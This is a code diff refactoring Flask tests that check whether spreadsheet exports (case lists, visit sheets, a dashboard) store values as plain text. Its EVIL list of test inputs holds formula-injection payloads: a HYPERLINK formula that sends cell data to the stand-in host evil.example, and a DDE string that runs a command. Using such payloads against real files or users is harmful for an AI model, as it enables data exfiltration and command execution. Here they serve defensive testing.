@@ -17,8 +17,10 @@ from flask_babel import force_locale, gettext
 from openpyxl import load_workbook
 from sqlalchemy import update
 
+from tests import factories
+from tests.factories import unit, user_id
 from tests.payout.conftest import make_person as payout_person  # noqa: F401  (fixture)
-from tests.payout.conftest import unit, user_id, verified_account  # noqa: F401  (fixture)
+from tests.payout.conftest import verified_account  # noqa: F401  (fixture)
 
 EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
 
@@ -185,25 +187,15 @@ def test_error_report_of_an_account_import_is_text(db_session):
 
 def test_case_lists_and_visit_sheet_are_text(app):
     from app.extensions import db
-    from app.models import Beneficiary, Enrolment
     from app.services.cases import classify_cases, write_case_lists
-    from app.services.reference import find_unit
-    from app.services.registry.keys import refresh_keys
     from app.services.visits import questionnaire as qn
     from app.services.visits import workgroups
 
     with app.app_context():
-        commune = find_unit(db.session, "00004", "2024")
-        ids = []
-        for i, v in enumerate(EVIL):
-            person = Beneficiary(full_name=v, cccd=f"00104500030{i}", birth_year=1945, sex="M", address=v,
-                                 commune=commune, commune_id=commune.id, match_status="matched")
-            refresh_keys(person)
-            person.enrolments.append(Enrolment(category="BTXH", commune_id=commune.id, monthly_amount=540000))
-            db.session.add(person)
-            db.session.flush()
-            ids.append(person.id)
-        db.session.commit()
+        ids = [factories.make_person(db.session, "00004", v, enrol={"BTXH": 540000}, cccd=f"00104500030{i}",
+                                     birth_year=1945, sex="M", address=v, match_status="matched")
+               for i, v in enumerate(EVIL)]
+        commune = unit(db.session, "00004")
         group = workgroups.create_group(db.session, commune_id=commune.id, name=EVIL[1], user_id=None)
         workgroups.add_member(db.session, group, user_id=None, name=EVIL[2])
         workgroups.sync_visit_list(db.session, commune)
@@ -225,12 +217,11 @@ def test_dashboard_xlsx_is_text(app):
     from app.extensions import db
     from app.services import dashboard as dash
     from app.services.reference import find_unit
-    from app.views.home import _write_xlsx
 
     with app.app_context():
         data = dash.dashboard(db.session, find_unit(db.session, "001", "2024"))
         data["breakdown"] = [dict(data["total"], name=v) for v in EVIL]
         out = io.BytesIO()
         with app.test_request_context(), force_locale("vi"):
-            _write_xlsx(data, out)
+            dash.write_xlsx(data, out, gettext)
     assert_text(out.getvalue())
